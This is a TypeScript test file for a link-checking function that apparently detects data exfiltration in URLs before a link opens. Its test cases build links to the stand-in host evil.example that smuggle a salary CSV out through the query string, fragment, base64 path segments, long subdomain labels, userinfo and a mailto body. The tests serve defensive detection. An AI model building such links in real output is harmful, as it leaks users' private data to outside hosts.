import { expect, test } from "vitest";
import { hostOf, linkData } from "../../src/page/text/link_data";

const LOOT = "name,salary\nAda,100000\n".repeat(10);

test.each([
  "https://en.wikipedia.org/wiki/Comma-separated_values#Standardization",
  "https://pandas.pydata.org/docs/reference/api/pandas.DataFrame.groupby.html",
  "https://www.google.com/search?q=how+to+read+a+csv+file+with+pandas",
  "https://github.com/pyodide/pyodide/blob/main/src/py/_pyodide/_base.py#L120-L160",
  "mailto:ada@example.org?subject=Report",
  "not a link",
])("an ordinary link opens at once: %s", (href) => {
  expect(linkData(href)).toBeNull();
});

test.each([
  ["in the query", `https://evil.example/?d=${encodeURIComponent(LOOT)}`],
  ["in the fragment", `https://evil.example/#${encodeURIComponent(LOOT)}`],
  ["in one part of the path", `https://evil.example/${btoa(LOOT).replaceAll("/", "_")}`],
  ["in many parts of the path", `https://evil.example/${"YWRhMTAwMDAw/".repeat(20)}`],
  ["in the name of the host", `https://${"a1b2c3d4e5".repeat(4)}.${"f6a7b8c9d0".repeat(4)}.evil.example/`],
  ["as a user's name", "https://ada-100000@evil.example/"],
  ["in a mail", `mailto:x@evil.example?body=${encodeURIComponent(LOOT)}`],
])("data %s is told before it leaves", (_where, href) => {
  expect(linkData(href)).not.toBeNull();
});

test("the data is shown as it would be read", () => {
  const found = linkData(`https://evil.example/?d=${encodeURIComponent(LOOT)}`);
  expect(found?.host).toBe("evil.example");
  expect(found?.data).toContain("Ada,100000");
});

test("the host of an image is known, also of what is no address", () => {
  expect([hostOf("https://evil.example/x.png"), hostOf("x.png")]).toEqual(["evil.example", ""]);
});
